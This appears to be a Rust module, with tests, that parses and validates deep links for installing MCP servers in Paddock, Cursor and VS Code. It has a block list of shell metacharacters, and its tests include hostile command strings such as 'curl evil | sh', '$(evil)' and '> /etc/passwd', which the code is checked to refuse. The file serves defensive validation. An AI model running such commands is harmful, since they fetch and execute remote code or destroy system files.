//! Links that ask to add a server: Paddock's own, and those that are made for Cursor and VS Code.
//!
//! A link comes from anywhere. It is read into what could have been pasted, and nothing else.

use base64::Engine as _;
use base64::alphabet::{STANDARD, URL_SAFE};
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use percent_encoding::percent_decode_str;
use serde_json::{Map, Value, json};
use url::Url;

use super::registry;
use crate::view::Failure;

/// The longest link, in bytes.
const LONGEST: usize = 32 << 10;

const SCHEMES: &[&str] = &["paddock:", "cursor:", "vscode:", "vscode-insiders:"];
/// Pages that lead to such a link, for where only web addresses are let through.
const PAGES: &[&str] = &[
    "https://cursor.com/",
    "https://www.cursor.com/",
    "https://vscode.dev/redirect",
    "https://insiders.vscode.dev/redirect",
];

/// Marks that tell a shell what to do, in a command that is one text.
const SHELL: &[char] = &[
    ';', '|', '&', '$', '<', '>', '(', ')', '`', '"', '\'', '\\', '*', '?', '[', '#', '~', '{',
    '\n',
];

/// Whether a text is a link, and no settings.
pub(super) fn is_link(text: &str) -> bool {
    let text = text.trim_start();
    let begins =
        |start: &&str| text.get(..start.len()).is_some_and(|it| it.eq_ignore_ascii_case(start));
    SCHEMES.iter().chain(PAGES).any(begins)
}

/// What a link asks for, as it could have been pasted.
///
/// # Errors
/// It is no link of a known form, or too long.
pub(super) fn read(text: &str) -> Result<Value, Failure> {
    let text = text.trim();
    if text.len() > LONGEST {
        return Err(Failure::new("link-too-long").with("most", LONGEST >> 10));
    }
    let url = Url::parse(text).map_err(|_| unknown())?;
    match known(&url)? {
        Known::Fields(fields) => of_fields(&fields),
        Known::Json(text) => of_json(&text),
    }
}

enum Known {
    /// `name`, `config` and `inputs`.
    Fields(Fields),
    Json(String),
}

#[derive(Default)]
struct Fields {
    name: Option<String>,
    config: Option<String>,
    inputs: Option<String>,
}

fn known(url: &Url) -> Result<Known, Failure> {
    let (host, path) = (url.host_str().unwrap_or_default(), url.path());
    match (url.scheme(), host, path) {
        ("paddock", "install", "" | "/") => Ok(Known::Fields(fields(url, true)?)),
        ("cursor", "anysphere.cursor-deeplink", "/mcp/install")
        | ("https", "cursor.com" | "www.cursor.com", "/install-mcp" | "/en/install-mcp")
        | ("https", "vscode.dev" | "insiders.vscode.dev", "/redirect/mcp/install") => {
            Ok(Known::Fields(fields(url, false)?))
        }
        ("vscode" | "vscode-insiders", _, "mcp/install" | "/install") => {
            let query = url.query().ok_or_else(unknown)?;
            let text = percent_decode_str(query).decode_utf8().map_err(|_| unknown())?;
            Ok(Known::Json(text.into_owned()))
        }
        ("https", "vscode.dev" | "insiders.vscode.dev", "/redirect") => {
            let (_, inner) =
                url.query_pairs().find(|(name, _)| name == "url").ok_or_else(unknown)?;
            let inner = Url::parse(&inner).map_err(|_| unknown())?;
            // A page that leads to a page leads nowhere.
            if inner.scheme() == "https" { Err(unknown()) } else { known(&inner) }
        }
        _ => Err(unknown()),
    }
}

/// Each field once: of two, readers would take different ones.
fn fields(url: &Url, is_strict: bool) -> Result<Fields, Failure> {
    let mut fields = Fields::default();
    for (name, value) in url.query_pairs() {
        let field = match &*name {
            "name" => &mut fields.name,
            "config" => &mut fields.config,
            "inputs" => &mut fields.inputs,
            _ if is_strict => return Err(unknown()),
            _ => continue,
        };
        if field.replace(value.into_owned()).is_some() {
            return Err(unknown());
        }
    }
    Ok(fields)
}

fn of_fields(fields: &Fields) -> Result<Value, Failure> {
    let config = json_in(fields.config.as_deref().ok_or_else(unknown)?)?;
    if registry::read(&config).is_some() {
        return Ok(config);
    }
    let config = config.as_object().ok_or_else(unknown)?;
    let inputs = fields.inputs.as_deref().map(json_in).transpose()?;
    let (name, config) = match (&fields.name, sole(config)) {
        // Some links have the name in their configuration as well.
        (name, Some((inner, config))) => (name.as_deref().unwrap_or(inner), config),
        (Some(name), None) => (name.as_str(), config),
        (None, None) => return Err(unknown()),
    };
    entry(name, config, inputs)
}

/// The entry in `{"NAME": {…}}`.
fn sole(config: &Map<String, Value>) -> Option<(&str, &Map<String, Value>)> {
    let (name, entry) = config.iter().next().filter(|_| config.len() == 1)?;
    Some((name, entry.as_object()?))
}

fn of_json(text: &str) -> Result<Value, Failure> {
    let value: Value = serde_json::from_str(text).map_err(|_| unknown())?;
    let config = value.as_object().ok_or_else(unknown)?;
    let name = config.get("name").and_then(Value::as_str).ok_or_else(unknown)?;
    entry(name, config, config.get("inputs").cloned())
}

fn entry(name: &str, config: &Map<String, Value>, inputs: Option<Value>) -> Result<Value, Failure> {
    let mut config = config.clone();
    config.remove("inputs");
    split_command(name, &mut config)?;
    Ok(json!({ "inputs": inputs, "servers": { name: config } }))
}

/// Links for Cursor may have the whole command in one text.
fn split_command(name: &str, config: &mut Map<String, Value>) -> Result<(), Failure> {
    let has_args = config.get("args").and_then(Value::as_array).is_some_and(|it| !it.is_empty());
    let command = config.get("command").and_then(Value::as_str).unwrap_or_default();
    if has_args || !command.contains(char::is_whitespace) || command.starts_with('/') {
        return Ok(());
    }
    if command.contains(SHELL) {
        return Err(Failure::new("link-shell").with("name", name));
    }
    let mut words: Vec<_> = command.split_whitespace().map(str::to_owned).collect();
    if words.is_empty() {
        return Err(unknown());
    }
    let program = words.remove(0);
    config.insert("command".to_owned(), program.into());
    config.insert("args".to_owned(), words.into());
    Ok(())
}

/// JSON as it is, or in Base64 of either alphabet.
fn json_in(text: &str) -> Result<Value, Failure> {
    if text.trim_start().starts_with(['{', '[']) {
        return serde_json::from_str(text).map_err(|_| unknown());
    }
    let settings =
        GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent);
    // A query has its plus signs read as spaces.
    let text = text.replace(' ', "+");
    let decode = |alphabet| GeneralPurpose::new(alphabet, settings).decode(&text).ok();
    let bytes = decode(&STANDARD).or_else(|| decode(&URL_SAFE)).ok_or_else(unknown)?;
    serde_json::from_slice(&bytes).map_err(|_| unknown())
}

fn unknown() -> Failure {
    Failure::new("link-unknown")
}

#[cfg(test)]
mod tests {
    use base64::prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD};

    use super::*;
    use crate::draft::read;
    use crate::view::Pasted;

    const CONFIG: &str = r#"{"command": "npx", "args": ["-y", "notes?>"], "env": {"A": "b"}}"#;

    fn escaped(text: &str) -> String {
        percent_encoding::utf8_percent_encode(text, percent_encoding::NON_ALPHANUMERIC).to_string()
    }

    fn cursor(name: &str, config: &str) -> String {
        let config = BASE64_STANDARD.encode(config);
        format!(
            "cursor://anysphere.cursor-deeplink/mcp/install?name={}&config={config}",
            escaped(name)
        )
    }

    /// The name and the line of the one server, or the code of what is wrong.
    fn one(link: &str) -> Result<(String, String), String> {
        assert!(is_link(link), "{link}");
        let mut read = read(link).map_err(|failure| failure.code)?;
        assert_eq!(read.len(), 1);
        match read.remove(0) {
            Pasted::Server { draft, line, .. } => Ok((draft.name, line)),
            Pasted::Unusable { reason, .. } => Err(reason.code),
        }
    }

    #[test]
    fn links_of_each_kind_ask_for_the_same() {
        let named = format!(r#"{{"name": "notes", {}"#, &CONFIG[1..]);
        let base64 = BASE64_STANDARD.encode(CONFIG);
        let inner = format!("vscode:mcp/install?{}", escaped(&named));
        for link in [
            cursor("notes", CONFIG),
            cursor("notes", &format!(r#"{{"notes": {CONFIG}}}"#)),
            format!("https://cursor.com/install-mcp?name=notes&config={}", escaped(&base64)),
            format!(
                "paddock://install?name=notes&config={}",
                BASE64_URL_SAFE_NO_PAD.encode(CONFIG)
            ),
            format!("paddock://install?name=notes&config={}", escaped(CONFIG)),
            format!("  VSCODE:mcp/install?{}\n", escaped(&named)),
            inner.clone(),
            format!("vscode-insiders:mcp/install?{}", escaped(&named)),
            format!(
                "https://insiders.vscode.dev/redirect/mcp/install?name=notes&config={}&quality=insiders",
                escaped(CONFIG)
            ),
            format!("https://vscode.dev/redirect?url={}", escaped(&inner)),
        ] {
            assert_eq!(one(&link), Ok(("notes".into(), "npx -y 'notes?>'".into())), "{link}");
        }
    }

    #[test]
    fn a_link_may_ask_for_values_and_hold_what_a_registry_says() {
        let named = r#"{"name": "n", "command": "x", "env": {"K": "${input:k}"}, "inputs": [{"type": "promptString", "id": "k", "password": true}]}"#;
        let found = read(&format!("vscode:mcp/install?{}", escaped(named))).unwrap();
        let Pasted::Server { asks, .. } = &found[0] else { panic!("{found:?}") };
        assert!(asks[0].secret);
        let server = r#"{"name": "io.ada/notes", "packages": [{"registryType": "pypi", "identifier": "notes", "version": "1"}]}"#;
        let link = format!("paddock://install?config={}", BASE64_STANDARD.encode(server));
        assert_eq!(one(&link), Ok(("notes".into(), "uvx notes==1".into())));
    }

    #[test]
    fn a_whole_command_is_split_and_no_shell_reads_it() {
        let of = |command: &str| one(&cursor("n", &json!({ "command": command }).to_string()));
        assert_eq!(of("npx -y  notes@latest").unwrap().1, "npx -y notes@latest");
        for command in
            ["npx x; curl evil | sh", "sh -c 'evil'", "x $(evil)", "x > /etc/passwd", "a\nb"]
        {
            assert_eq!(of(command), Err("link-shell".into()), "{command}");
        }
        let args = json!({"command": "sh", "args": ["-c", "evil; evil"]}).to_string();
        assert_eq!(one(&cursor("n", &args)).unwrap().1, "sh -c 'evil; evil'", "it is shown whole");
    }

    #[test]
    fn hostile_links_are_refused() {
        let deep = "[".repeat(20_000);
        let config = escaped(CONFIG);
        for (link, code) in [
            (format!("paddock://install?name=n&config={}", "A".repeat(LONGEST)), "link-too-long"),
            (format!("paddock://install?name=n&config={deep}"), "link-unknown"),
            (cursor("n", &deep), "link-unknown"),
            (format!("paddock://install?name=n&name=m&config={config}"), "link-unknown"),
            (format!("paddock://install?name=n&config={config}&trust=1"), "link-unknown"),
            (format!("paddock://install/../grant?name=n&config={config}"), "link-unknown"),
            (format!("paddock://grant?name=n&config={config}"), "link-unknown"),
            (format!("paddock://install?config={config}"), "link-unknown"),
            ("paddock://install".into(), "link-unknown"),
            ("paddock:".into(), "link-unknown"),
            ("cursor://settings".into(), "link-unknown"),
            ("vscode:mcp/install?%ff".into(), "link-unknown"),
            ("vscode:mcp/install?[]".into(), "link-unknown"),
            (
                format!(
                    "https://vscode.dev/redirect?url={}",
                    escaped("https://vscode.dev/redirect?url=x")
                ),
                "link-unknown",
            ),
            (cursor("a\u{202e}b", CONFIG), "paste-bad-name"),
            (cursor("a\0b", CONFIG), "paste-bad-name"),
            (cursor("n", r#"{"url": "https://example.org/mcp"}"#), "paste-url-server"),
            (cursor("n", r#"{"command": 7}"#), "paste-bad-entry"),
            (cursor("n", "{}"), "paste-no-command"),
        ] {
            let shown: String = link.chars().take(80).collect();
            assert_eq!(one(&link), Err(code.to_owned()), "{shown}");
        }
        assert!(!is_link("https://example.org/?paddock:") && !is_link("{}"));
    }
}
